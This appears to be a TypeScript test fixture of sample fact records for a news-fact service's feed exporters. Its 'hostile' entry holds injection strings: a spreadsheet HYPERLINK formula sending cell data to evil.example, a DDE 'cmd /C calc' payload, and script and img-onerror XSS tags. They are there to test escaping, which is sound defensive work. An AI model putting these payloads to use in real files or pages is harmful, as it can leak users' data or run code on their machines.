import type { Fact } from '../../worker/schema/fact.ts'
import type { Page } from '../../worker/formats/format.ts'

export const ORIGIN = 'https://factlet.example'

const id = (letter: string) => `f_${letter.repeat(20)}`
const evidence = {
  exact: 'landings fell 8 percent',
  start: 10,
  end: 33,
  prefix: 'Herring ',
  suffix: ' in May.'
}
const article = {
  id: `a_${'b'.repeat(20)}`,
  title: 'Herring stays away',
  publisher: 'Osterhavn Post',
  url: 'https://osterhavn-post.example/herring',
  published_at: '2025-06-10'
}
const unknown = { id: `a_${'c'.repeat(20)}`, title: null, publisher: null, url: null, published_at: null }
const shared = {
  statement: 'Landings of herring fell 8 percent in May.',
  confidence: 0.9,
  salience: 0.75,
  entities: [
    { id: 'ingrid-dahlmann', name: 'Ingrid Dahlmann', type: 'person' as const },
    { id: 'fisheries-board', name: 'Fisheries Board', type: 'organization' as const },
    { id: 'osterhavn', name: 'Osterhavn', type: 'place' as const }
  ],
  topics: ['Herring'],
  status: 'corroborated' as const,
  origins: 2,
  mentions: [
    {
      article,
      evidence,
      text_hash: '0'.repeat(64),
      fragment_url: 'https://osterhavn-post.example/herring#:~:text=landings%20fell%208%20percent'
    },
    { article: unknown, evidence, text_hash: '1'.repeat(64), fragment_url: null }
  ],
  origin_groups: [],
  mention_count: 2,
  conflicts: [],
  checks: [],
  version: 3,
  first_seen: '2025-06-10T10:00:00.000Z',
  updated_at: '2025-06-12T08:30:00.000Z'
}
const said = {
  cue: null,
  content: 'We have never seen the shoals so far out',
  content_spans: [[10, 50] as [number, number]],
  channel: null,
  said_on: '2025-06-09'
}
const speaker = {
  entity: 'ingrid-dahlmann',
  name: 'Ingrid Dahlmann',
  surface: 'Dahlmann',
  span: [0, 8] as [number, number]
}
const figure = {
  kind: 'figure' as const,
  value: 8,
  value_high: null,
  unit: 'percent',
  unit_surface: 'percent',
  bound: 'exact' as const,
  change: 'decrease' as const,
  basis: 'month-on-month' as const,
  measure: 'landings of herring',
  about: [{ id: 'osterhavn', name: 'Osterhavn', type: 'place' as const }],
  period: '2025-05',
  series: 'landings-of-herring.percent'
}
const event = {
  kind: 'event' as const,
  what: 'close two fishing grounds',
  who: [{ entity: 'fisheries-board', name: 'Fisheries Board' }],
  whom: [],
  where: { entity: 'osterhavn', name: 'Osterhavn' },
  when: { iso: '2025-06-09', text: 'on Monday', span: [0, 9] as [number, number] },
  planned: false,
  negated: false
}
const role = {
  kind: 'role' as const,
  person: { entity: 'ingrid-dahlmann', name: 'Ingrid Dahlmann' },
  role: 'head',
  organization: { entity: 'fisheries-board', name: 'Fisheries Board' },
  former: false
}

/** Facts of every kind, with and without what may be missing. */
export const FACTS: Readonly<Record<string, Fact>> = {
  quote: { kind: 'quote', ...said, ...shared, speaker, id: id('a') },
  unattributed: {
    kind: 'quote',
    ...said,
    ...shared,
    said_on: null,
    speaker: null,
    speaker_unknown: 'nobody is named',
    id: id('b')
  },
  claim: { kind: 'claim', ...said, ...shared, speaker, id: id('c') },
  claimOfPlace: {
    kind: 'claim',
    ...said,
    ...shared,
    speaker: { ...speaker, entity: 'osterhavn', name: 'Osterhavn' },
    id: id('d')
  },
  figure: { ...figure, ...shared, id: id('e') },
  range: {
    ...figure,
    ...shared,
    value: -3.5,
    value_high: 4,
    bound: 'about',
    period: '2025-Q2',
    unit: null,
    measure: null,
    about: [],
    id: id('f')
  },
  event: { ...event, ...shared, id: id('g') },
  planned: { ...event, ...shared, planned: true, where: null, when: null, id: id('h') },
  negated: { ...event, ...shared, negated: true, id: id('i') },
  role: { ...role, ...shared, id: id('j') },
  formerRole: {
    ...role,
    ...shared,
    former: true,
    organization: null,
    person: { entity: null, name: 'a board member' },
    id: id('k')
  },
  /** What texts hold to break a form: each kind of quote, a formula, marks, a character that XML cannot hold. */
  hostile: {
    kind: 'quote',
    ...said,
    ...shared,
    speaker: null,
    id: id('l'),
    statement:
      '=HYPERLINK("https://evil.example?"&A1,"see") ]]></title><script>alert(1)</script>\u0000\u0008\ud800',
    content: '@SUM(1+1)*cmd|\' /C calc\'!A0, "so it\r\nsaid"',
    topics: ['-Minus', '<b>&amp;'],
    entities: [],
    mentions: [
      {
        article: { ...article, publisher: '+cmd', title: '<img src=x onerror=alert(1)>', published_at: null },
        evidence: { ...evidence, exact: '</blockquote><script>alert(2)</script> & ]]>' },
        text_hash: '2'.repeat(64),
        fragment_url: 'https://osterhavn-post.example/?a=1&b="2"#:~:text=x'
      }
    ]
  }
}

export const pageOf = (facts: readonly unknown[], next: string | null = null): Page => ({
  bodies: facts.map((fact) => JSON.stringify(fact)),
  title: 'Facts & <more>',
  origin: ORIGIN,
  self: `${ORIGIN}/v1/facts.atom?kind=quote&limit=2`,
  first: `${ORIGIN}/v1/facts.atom?kind=quote&limit=2`,
  json: `${ORIGIN}/v1/facts?kind=quote&limit=2`,
  next
})
